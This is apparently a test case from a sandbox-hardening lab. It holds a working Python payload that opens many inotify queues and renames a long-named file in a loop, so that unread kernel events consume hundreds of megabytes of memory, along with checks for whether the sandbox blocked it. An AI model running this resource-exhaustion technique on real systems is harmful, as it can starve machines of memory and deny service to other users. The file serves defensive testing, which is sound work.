"""Wants the machine's memory, by queues of events that nobody reads.

Won: 700 MB of it were had. Outer limit: the kernel's 128 instances with 16,384 events each.
"""

from tests.attacks.lab import Attack, Evidence

WALL = "memory_is_in_processes"
CELL = """
import ctypes, os, time
libc, kept, rounds = ctypes.CDLL(None, use_errno=True), [], 0
os.mkdir("/tmp/watched")
while len(kept) < 100 and (queue := libc.inotify_init1(0o4000)) >= 0:
    libc.inotify_add_watch(queue, b"/tmp/watched", 0xFFF)
    kept.append(queue)
error = ctypes.get_errno()
os.chdir("/tmp/watched")
names = ["a" * 250, "b" * 250]
open(names[0], "w").close()
while kept and rounds < 8000 and time.process_time() < 8:
    os.rename(*names)
    names.reverse()
    rounds += 1
had = len(kept) * rounds * 2 * 300 >> 20  # each renaming is two events, with a name of 250 characters
raise Exception(f"LOOT {had} MB" if had > 200 else f"{len(kept)} queues, error {error}")
"""
ATTACK = Attack(first=[CELL])


def won(evidence: Evidence) -> bool:
    return "LOOT" in evidence.loot


def took_place(evidence: Evidence) -> bool:
    """It tried, and heard that it may not."""
    return "0 queues, error 1" in evidence.told
